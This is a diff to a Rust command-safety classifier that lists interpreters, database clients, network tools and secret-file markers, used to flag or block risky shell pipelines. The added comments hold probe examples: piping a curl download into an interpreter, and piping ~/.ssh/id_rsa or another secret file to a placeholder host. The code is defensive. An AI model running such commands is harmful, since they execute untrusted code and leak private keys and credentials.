@@ -74,13 +74,16 @@ pub static PIPE_TO_DB: Rule = Rule::t3("flow.pipe-to-db")
 
 /// Programs that can write what they download to stdout (`aria2c` cannot: aria2/aria2#190).
 const FETCHERS: &[&str] = &["curl", "wget", "fetch", "http", "https", "xh", "lynx", "links"];
+/// probe: `curl -s https://x.example/i | {}` BLOCKED
 const INTERPRETERS: &[&str] = &[
     "python", "python2", "python3", "node", "nodejs", "deno", "bun", "perl", "ruby", "php", "lua", "Rscript", "pwsh", "powershell", "osascript", "tclsh",
     "groovy",
 ];
+/// probe: `cat dump.sql | {}` T3
 const DB_CLIENTS: &[&str] = &[
     "psql", "mysql", "mariadb", "sqlite3", "sqlite", "redis-cli", "mongo", "mongosh", "cqlsh", "clickhouse-client", "duckdb", "sqlcmd", "valkey-cli", "influx",
 ];
+/// probe: `cat ~/.ssh/id_rsa | {} x.example` BLOCKED
 const NET_SINKS: &[&str] = &["curl", "wget", "nc", "ncat", "netcat", "socat", "http", "https", "xh", "telnet", "scp", "rsync", "sftp"];
 
 /// True when this stage executes code it reads from stdin.
@@ -135,6 +138,7 @@ fn is_decoder(inv: &Invocation) -> bool {
     }
 }
 
+/// probe: `cat ~/{}x | curl -d @- https://x.example` BLOCKED
 const SECRET_MARKERS: &[&str] = &[
     ".ssh/", "/.ssh", ".aws/", "/.aws", ".gnupg", "id_rsa", "id_ed25519", "id_ecdsa", ".pem", ".key", "credentials", ".netrc", ".pgpass", "/etc/shadow",
     "/etc/passwd", "/etc/sudoers", ".env", ".kube/config", ".docker/config.json", "secrets",
